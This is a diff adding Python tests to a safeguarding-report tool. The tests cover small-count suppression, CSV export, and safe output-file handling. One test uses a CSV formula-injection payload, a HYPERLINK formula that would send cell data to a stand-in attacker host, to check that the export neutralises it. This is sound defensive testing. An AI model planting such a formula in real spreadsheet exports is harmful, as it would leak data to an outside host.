@@ -5,6 +5,7 @@ one, what it counts for them, what is logged, and what bad input is told."""
 from __future__ import annotations
 
 import csv
+import io
 import json
 import math
 import re
@@ -23,12 +24,13 @@ from contextgraph.model.tracked import Tracked
 from contextgraph.partnership import census as tables
 from contextgraph.partnership.build import build
 from contextgraph.partnership.holdings import period
-from contextgraph.partnership.render import plain, to_csv, to_html
+from contextgraph.partnership.render import plain, suppressed, to_csv, to_html
 from contextgraph.partnership.representation import representation
 from contextgraph.service.auth import ENV_LOCAL_KEY, LocalKeys
 from contextgraph.store import Filter, Store
 
 from .conftest import IN_CI
+from .data import rel
 from .service import Service, running
 from .test_api_writes import log_of
 
@@ -325,6 +327,52 @@ def test_small_counts_are_suppressed_for_a_recipient_outside(area: Store, tmp_pa
         assert not (value.isdigit() and 0 < int(value) < 5) or "rank" in line or "small_count" in line, line
 
 
+def test_no_small_count_can_be_worked_back_for_a_recipient_outside() -> None:
+    """A small count hidden beside a total and others shown could be worked out by subtraction: a
+    count beside it is hidden too (shown as withheld) until two or more are hidden and they add up
+    to the threshold or more; every figure worked out from a hidden count — a rate, years, means
+    by level, a share compared — is left out (shapes of the report's sections)."""
+    cohort = {"name": "linked to harm, not open", "children": 29, "not_known": 2,
+              "groups": [{"group": "female", "count": 11, "share": 0.41}, {"group": "male", "count": 16, "share": 0.59},
+                         {"group": "other", "count": 0, "share": 0.0}]}  # fmt: skip
+    known = [{"group": "female", "count": 3, "share": 0.6, "compared_share": 0.667, "low": 0.2},
+             {"group": "male", "count": 30, "share": 0.4, "compared_share": 0.333, "low": 0.1}]  # fmt: skip
+    during = {"children": 4, "years_before": 4.0, "years_during": 2.5, "rows": []}
+    pathway = {"stepped_up": 2, "stepped_down": 0, "same": 9, "mean_days": {"amber": 106.5, "red": 52.5}}
+    got = suppressed({"cohort": cohort, "known": known, "during": during, "pathway": pathway}, 5)
+    c = got["cohort"]
+    assert (c["not_known"], c["children"]) == ("<5", "withheld")  # not 29 - 27
+    assert [g["count"] for g in c["groups"]] == [11, 16, 0]  # shown: the total they would subtract from is not
+    assert got["known"][0]["count"] == "<5" and got["known"][1]["count"] == "withheld"
+    assert all(g["compared_share"] is None and g["low"] is None for g in got["known"])
+    assert got["during"]["children"] == "<5" and got["during"]["years_before"] is None
+    assert got["pathway"]["mean_days"] is None and got["pathway"]["same"] == "withheld"
+    assert suppressed({"a": 7, "b": 0, "rate": 0.5}, 5) == {"a": 7, "b": 0, "rate": 0.5}  # nothing small: as it is
+
+
+def test_the_reports_csv_quotes_what_a_spreadsheet_would_run(area: Store, tmp_path: Path) -> None:
+    """A place's name that reads as a formula is quoted in the report's CSV, as in the i2 export."""
+    named = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    wide = "\uff1dHYPERLINK(1)"
+    places = [
+        entity_from_json({"id": i, "kind": "location", "name": n, "locality": "East"})
+        for i, n in (("l9", named), ("l8", wide))
+    ]
+    seen = [rel("SEEN_AT", x, place, day="2025-02-01") for x in ("c1", "c2", "p1") for place in ("l9", "l8")]
+    area.upsert(places, [rel("EXPLOITS", "p1", "c1", day="2025-02-01"), *seen])
+    text = to_csv(build(area, PERIOD)).decode()
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert any(named in c for c in cells) and any(wide in c for c in cells)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\uff1d") and not _number(c)], cells
+
+
+def _number(text: str) -> bool:
+    try:
+        return math.isfinite(float(text))
+    except ValueError:
+        return False
+
+
 def test_a_home_is_never_named(area: Store, tmp_path: Path) -> None:
     """A place someone lives at is counted as a home, wherever it appears, whether or not it is
     marked as one: where episodes ended, and among the hotspots."""
@@ -489,3 +537,30 @@ def test_out_dash_writes_the_report_to_standard_output(area: Store, tmp_path: Pa
         told = subprocess.run(cmd, stdout=full, stderr=subprocess.PIPE, text=True, timeout=300, check=False)
     assert told.returncode == 1 and "standard output: cannot write the report" in told.stderr, told.stderr
     assert "Traceback" not in told.stderr
+
+
+def test_a_report_replaces_no_file_unasked_and_writes_nowhere_it_cannot(
+    area: Store, tmp_path: Path, _audit_log: Path
+) -> None:
+    """A file already there is kept unless --force; a folder of the report's name, or a path
+    under a file, is said in a line before anything is made or logged, never a traceback."""
+    from .cli import cg
+
+    args = ("report", "--from", "2025-01-01", "--to", "2025-03-31", "--recipient", "CSC", "--purpose", "MACE")
+    keep = tmp_path / "keep.txt"
+    keep.write_text("precious")
+    (tmp_path / "afile").write_text("x")
+    (tmp_path / "rdir" / "report-all-2025-01-01-2025-03-31.json").mkdir(parents=True)
+    before = len(log_of(_audit_log)) if _audit_log.exists() else 0
+    for out, said in (
+        ("keep.txt", "a file is already there"),
+        ("afile/x.json", "no such folder"),
+        ("rdir", "a folder has the report's name"),
+    ):
+        r = cg(*args, "--format", "json", "--out", out, store=area, cwd=tmp_path)
+        assert r.returncode == 1 and said in r.stderr and "Traceback" not in r.stderr, (out, r.stderr)
+    assert keep.read_text() == "precious"
+    assert (len(log_of(_audit_log)) if _audit_log.exists() else 0) == before  # nothing logged as given
+    r = cg(*args, "--format", "json", "--out", "keep.txt", "--force", store=area, cwd=tmp_path)
+    assert r.returncode == 0 and json.loads(keep.read_text())["referrals"], r.stderr
+    assert log_of(_audit_log)[-1]["operation"] == "disclosure"
